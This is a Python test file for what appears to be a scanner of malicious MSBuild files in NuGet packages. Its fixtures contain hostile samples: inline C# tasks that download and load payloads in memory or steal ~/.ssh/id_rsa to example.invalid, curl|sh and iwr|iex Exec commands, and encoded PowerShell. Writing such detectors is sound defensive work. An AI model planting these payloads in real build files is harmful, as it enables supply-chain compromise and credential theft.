"""MSBuild that NuGet imports (nuseal.scan.msbuild): which files, inline tasks, Exec, property functions, hooks,
imports; test packages shaped like public MSBuild-attack proofs of concept (written here)."""

from __future__ import annotations

import pytest

from nuseal.scan.model import Severity
from nuseal.scan.msbuild import imported_msbuild_files
from nuseal.scan.package import ScanPackage

from .scan_support import by_rule, make_nupkg, scan_bytes

ID = "Contoso.Build"


def project(body: str, attrs: str = "") -> str:
    return f'<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"{attrs}>\n{body}\n</Project>\n'


def inline_task(code: str, factory: str = "RoslynCodeTaskFactory", hook: str = 'BeforeTargets="Build"') -> str:
    return project(
        f"""  <UsingTask TaskName="Prepare" TaskFactory="{factory}"
             AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Using Namespace="System.Net" />
      <Code Type="Fragment" Language="cs"><![CDATA[
{code}
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="PrepareSources" {hook}>
    <Prepare />
  </Target>"""
    )


def scan_targets(text: str, name: str = f"build/{ID}.targets", extra: dict[str, str] | None = None):
    return by_rule(scan_bytes(make_nupkg(ID, files={name: text, **(extra or {})})))


def test_which_files_nuget_imports() -> None:
    names = [
        f"build/{ID}.targets",
        f"build/net472/{ID}.props",
        f"buildTransitive/netstandard2.0/{ID.lower()}.targets",
        f"buildMultiTargeting/{ID}.targets",
        f"buildCrossTargeting/{ID}.props",
        # not imported by NuGet:
        "build/Other.targets",
        f"buildMultiTargeting/net8.0/{ID}.targets",
        f"build/net472/deeper/{ID}.targets",
        f"content/{ID}.targets",
    ]
    pkg = ScanPackage.from_bytes(make_nupkg(ID, files={n: project("") for n in names}), source="t")
    assert imported_msbuild_files(pkg) == names[:5]


def test_inline_task_starting_a_process() -> None:
    found = scan_targets(inline_task('System.Diagnostics.Process.Start("cmd.exe", "/c whoami");'))
    assert found["NS2101"][0].severity is Severity.NOTE
    start = found["NS2102"][0]
    assert start.severity is Severity.WARNING
    assert "Process.Start" in start.evidence
    assert start.location.line is not None and start.location.line > 1
    assert found["NS2402"][0].severity is Severity.NOTE  # BeforeTargets="Build"
    assert "NS2110" not in found


def test_proof_of_concept_download_and_load_in_memory() -> None:
    """Shaped like the public PoCs: an inline task hooked before Build fetches a payload and loads it from bytes."""
    code = """
        var http = new System.Net.Http.HttpClient();
        byte[] payload = http.GetByteArrayAsync("https://203.0.113.7/p.bin").Result;
        var asm = System.Reflection.Assembly.Load(payload);
        asm.EntryPoint.Invoke(null, new object[] { new string[0] });
        return true;"""
    found = scan_targets(inline_task(code))
    assert found["NS2103"][0].severity is Severity.WARNING
    assert found["NS2104"][0].severity is Severity.ERROR
    assert found["NS2110"][0].severity is Severity.ERROR


def test_proof_of_concept_drop_and_run_with_credential_theft() -> None:
    code = """
        var wc = new WebClient();
        var path = Path.Combine(Path.GetTempPath(), "svc.exe");
        File.WriteAllBytes(path, wc.DownloadData("http://example.invalid/svc"));
        Process.Start(path);
        var keys = File.ReadAllText(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile) + "/.ssh/id_rsa");
        wc.UploadString("http://example.invalid/k", keys);
        return true;"""
    found = scan_targets(inline_task(code, factory="CodeTaskFactory", hook='AfterTargets="CoreCompile"'))
    assert {"NS2102", "NS2103", "NS2105", "NS2106", "NS2110"} <= set(found)
    assert found["NS2105"][0].severity is Severity.WARNING
    assert found["NS2106"][0].severity is Severity.ERROR


def test_inline_code_in_comments_is_not_matched_and_writing_alone_is_fine() -> None:
    code = """
        // Process.Start("cmd"); new WebClient();
        /* Assembly.Load(bytes); */
        File.WriteAllText(OutputFile, "generated");
        return true;"""
    found = scan_targets(inline_task(code))
    assert set(found) & {"NS2102", "NS2103", "NS2104", "NS2105", "NS2110"} == set()
    assert "NS2101" in found


def test_inline_code_from_a_source_file_in_the_package() -> None:
    text = project(
        """  <UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\x.dll">
    <Task><Code Type="Class" Language="cs" Source="$(MSBuildThisFileDirectory)..\\tools\\T.cs" /></Task>
  </UsingTask>"""
    )
    source = 'class T { void Run() { System.Diagnostics.Process.Start("x"); } }'
    found = scan_targets(text, extra={"tools/T.cs": source})
    assert found["NS2102"][0].location.path == "tools/T.cs"


@pytest.mark.parametrize(
    ("command", "rule", "severity"),
    [
        ("curl -fsSL https://example.invalid/i.sh | sh", "NS2203", Severity.ERROR),
        ("wget -qO- http://example.invalid/i.sh | sudo bash", "NS2203", Severity.ERROR),
        ("powershell -c \"iwr https://example.invalid/a.ps1 | iex\"", "NS2203", Severity.ERROR),
        ("powershell -NoProfile -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA", "NS2204",
         Severity.ERROR),
        ("echo ZWNobyBoaQ== | base64 -d | sh", "NS2204", Severity.ERROR),
        ("curl -o $(IntermediateOutputPath)d.json https://example.invalid/d.json", "NS2202", Severity.WARNING),
    ],
)
def test_exec_commands(command: str, rule: str, severity: Severity) -> None:
    escaped = command.replace("&", "&amp;").replace('"', "&quot;")
    found = scan_targets(project(f'  <Target Name="X" AfterTargets="Build"><Exec Command="{escaped}" /></Target>'))
    assert found["NS2201"][0].severity is Severity.NOTE
    assert found[rule][0].severity is severity


def test_encoded_exec_command_is_decoded() -> None:
    found = scan_targets(
        project(
            '  <Target Name="X" BeforeTargets="CoreCompile">'
            '<Exec Command="powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA" /></Target>'
        )
    )
    assert "decodes to: IEX (iwr http://x)" in " ".join(f.evidence for f in found["NS2204"])
    assert found["NS2203"][0].severity is Severity.ERROR


def test_plain_build_tool_exec_is_only_a_note() -> None:
    exec_ = '<Exec Command="dotnet tool run gen" />'
    found = scan_targets(project(f'  <Target Name="Gen" BeforeTargets="CoreCompile">{exec_}</Target>'))
    assert max(f.severity for fs in found.values() for f in fs) is Severity.NOTE


def test_download_file_property_functions_initial_targets_imports_and_task_assemblies() -> None:
    text = project(
        """  <PropertyGroup>
    <Pwn>$([System.Diagnostics.Process]::Start('calc.exe'))</Pwn>
    <Out>$([System.IO.File]::WriteAllText('/tmp/x', 'y'))</Out>
    <Ok>$([System.IO.File]::Exists('x'))</Ok>
  </PropertyGroup>
  <Import Project="\\\\203.0.113.9\\share\\evil.targets" />
  <Import Project="$(MSBuildThisFileDirectory)..\\..\\..\\outside.targets" />
  <Import Project="$(MSBuildExtensionsPath)\\Microsoft\\VisualStudio\\v17.0\\WebApplications\\W.targets" />
  <Import Project="$(MSBuildThisFileDirectory)inner.targets" />
  <UsingTask TaskName="Weave" AssemblyFile="$(MSBuildThisFileDirectory)..\\tools\\Weaver.Tasks.dll" />
  <UsingTask TaskName="Far" AssemblyFile="C:\\Tools\\Far.dll" />
  <Target Name="Fetch"><DownloadFile SourceUrl="https://example.invalid/x.zip" DestinationFolder="obj" /></Target>""",
        attrs=' InitialTargets="Fetch"',
    )
    exec_ = '<Exec Command="curl http://x.invalid/a | sh" />'
    inner = project(f'  <Target Name="In" AfterTargets="Build">{exec_}</Target>')
    found = scan_targets(
        text, extra={"build/inner.targets": inner, "tools/Weaver.Tasks.dll": b"MZ"}
    )
    assert found["NS2302"][0].severity is Severity.ERROR
    assert [f.evidence for f in found["NS2303"]] == ["$([System.IO.File]::WriteAllText('/tmp/x', 'y'))"]
    assert len(found["NS2501"]) == 1  # the UNC share; the SDK import is not judged
    assert found["NS2502"][0].severity is Severity.NOTE  # the climb out of the package
    assert found["NS2401"][0].severity is Severity.WARNING
    assert found["NS2301"][0].severity is Severity.WARNING
    assert "tools/Weaver.Tasks.dll" in found["NS2601"][0].message
    assert "C:\\Tools\\Far.dll" in found["NS2602"][0].message
    # the imported file inside the package is analysed too
    assert found["NS2203"][0].location.path == "build/inner.targets"


@pytest.mark.parametrize(
    "text",
    [
        "<Project><Target Name='x'>",
        '<!DOCTYPE p [<!ENTITY e "x">]><Project>&e;</Project>',
    ],
    ids=["not-well-formed", "dtd-entity"],
)
def test_unparsable_msbuild_is_reported(text: str) -> None:
    found = scan_targets(text)
    assert found["NS9007"][0].severity is Severity.WARNING


def test_exec_of_a_packaged_powershell_script_analyses_the_script() -> None:
    exec_ = (
        '<Exec Command="powershell -NoProfile -ExecutionPolicy Bypass '
        '-File &quot;$(MSBuildThisFileDirectory)..\\tools\\prepare.ps1&quot;" />'
    )
    text = project(f'  <Target Name="Prep" BeforeTargets="Build">{exec_}</Target>')
    cradle = "iex (New-Object Net.WebClient).DownloadString('http://x.example/a')\n"
    found = scan_targets(text, extra={"tools/prepare.ps1": cradle})
    assert found["NS1110"][0].location.path == "tools/prepare.ps1"
    assert "run by an Exec task in build/Contoso.Build.targets" in found["NS1110"][0].message
    assert "NS2204" not in found  # -ExecutionPolicy Bypass -File is how build scripts are run


def test_exec_of_a_harmless_packaged_script_is_a_note() -> None:
    exec_ = (
        '<Exec Command="pwsh -ExecutionPolicy Bypass -File $(MSBuildThisFileDirectory)gen.ps1 '
        '-Out $(IntermediateOutputPath)" />'
    )
    text = project(f'  <Target Name="Gen" BeforeTargets="CoreCompile">{exec_}</Target>')
    script = "param($Out)\nSet-Content (Join-Path $Out 'g.cs') '// generated'\n"
    found = scan_targets(text, extra={"build/gen.ps1": script})
    assert max(f.severity for fs in found.values() for f in fs) is Severity.NOTE


def test_visual_basic_inline_task() -> None:
    code = """
        ' Process.Start("calc") in a comment is not code
        Dim url As String = "http://example.invalid/it's"
        Dim client As New System.Net.WebClient()
        Shell(client.DownloadString(url))
        Return True"""
    text = inline_task(code).replace('Language="cs"', 'Language="vb"')
    found = scan_targets(text)
    assert {"NS2102", "NS2103", "NS2110"} <= set(found)
    assert all("comment" not in f.evidence for f in found["NS2102"])
